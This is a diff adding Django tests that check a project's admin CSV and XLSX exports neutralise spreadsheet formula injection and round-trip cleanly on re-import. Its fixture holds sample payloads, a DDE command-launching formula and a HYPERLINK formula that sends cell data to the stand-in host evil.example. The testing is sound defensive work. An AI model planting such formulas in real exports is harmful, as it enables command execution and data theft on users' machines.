@@ -1,6 +1,7 @@
 """Snapshots (and missions) in and out of spreadsheets: `manage.py import_snapshots` and
 the admin's import and export share one resource and one set of checks."""
 
+import csv
 import datetime
 import io
 
@@ -409,3 +410,55 @@ def test_the_snapshot_date_rule_uses_the_local_date(records, tmp_path):
     today = timezone.localdate().isoformat()
     out, err, error = run(write_csv(tmp_path, f"Ukraine,,{today},5,,"))
     assert error is None, err
+
+
+FORMULAS = {
+    "name_en": "=cmd|' /C calc'!A0",
+    "acronym_en": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "body_en": "- a bullet, which a spreadsheet reads as a minus",
+    "body_fr": "'=already quoted",
+}
+
+
+@pytest.mark.parametrize("file_format", ["0", "1"])
+def test_every_admin_export_defuses_text_a_spreadsheet_would_run_as_a_formula(records, file_format):
+    ukraine, euam, _caribbean, _binuh = records
+    Mission.objects.filter(pk=euam.pk).update(**FORMULAS)
+    make_snapshot(ukraine, as_of=datetime.date(2021, 1, 1), authorized=5, source="@SUM(A1)")
+    analyst = login("Analysts")
+    cells = []
+    for model in ("mission", "deploymentsnapshot"):
+        response = export(analyst, file_format, model=model)
+        if file_format == "0":
+            cells += [
+                cell
+                for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
+                for cell in row
+            ]
+        else:
+            book = openpyxl.load_workbook(io.BytesIO(response.content))
+            assert not [
+                c.coordinate for row in book.active.iter_rows() for c in row if c.data_type == "f"
+            ]
+            cells += [c.value for row in book.active.iter_rows() for c in row]
+    texts = [cell for cell in cells if isinstance(cell, str)]
+    assert "'" + FORMULAS["name_en"] in texts
+    assert "'" + FORMULAS["acronym_en"] in texts
+    assert "'" + FORMULAS["body_en"] in texts
+    assert "''=already quoted" in texts
+    assert "'@SUM(A1)" in texts
+    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_a_defused_mission_export_imports_back_unchanged(records):
+    _ukraine, euam, _caribbean, _binuh = records
+    Mission.objects.filter(pk=euam.pk).update(**FORMULAS)
+    editor = login("Editors")
+    exported = export(editor, "0", model="mission").content
+
+    preview = upload(editor, exported, model="mission")
+
+    assert preview.context["result"].totals["skip"] == 2
+    assert confirm(editor, preview, model="mission").status_code == 302
+    euam.refresh_from_db()
+    assert {field: getattr(euam, field) for field in FORMULAS} == FORMULAS
